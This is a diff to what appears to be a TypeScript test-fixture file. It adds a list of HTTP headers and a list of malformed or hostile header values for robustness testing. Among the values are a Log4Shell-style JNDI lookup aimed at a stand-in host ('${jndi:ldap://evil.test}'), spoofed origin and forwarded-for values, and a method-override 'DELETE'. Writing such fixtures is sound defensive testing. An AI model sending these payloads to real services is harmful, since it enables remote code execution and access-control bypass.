@@ -132,6 +132,47 @@ export const ODD_NAMES = [
   'a\0b',
 ] as const;
 
+/** Headers that somebody reads on the way; those that frame a message are not among them. */
+export const ODD_HEADERS = [
+  'accept',
+  'accept-encoding',
+  'accept-language',
+  'authorization',
+  'forwarded',
+  'idempotency-key',
+  'if-modified-since',
+  'if-none-match',
+  'origin',
+  'range',
+  'referer',
+  'sec-fetch-site',
+  'user-agent',
+  'x-forwarded-for',
+  'x-forwarded-host',
+  'x-forwarded-proto',
+  'x-http-method-override',
+  'x-xsrf-token',
+] as const;
+export const ODD_HEADER_VALUES = [
+  '',
+  ' ',
+  '*',
+  '%00',
+  'null',
+  'DELETE',
+  'bytes=0-,0-,0-',
+  'http://evil.test#',
+  '127.0.0.1, evil',
+  'for=[::1',
+  '"',
+  ';;;=,',
+  'Bearer x.y.z',
+  'W/"' + 'x'.repeat(200),
+  '${jndi:ldap://evil.test}',
+  'gzip;q=NaN, *;q=9',
+  'x'.repeat(4000),
+] as const;
+
 /** Files, good ones first. */
 export const FILES: readonly Upload[] = [
   PDF,
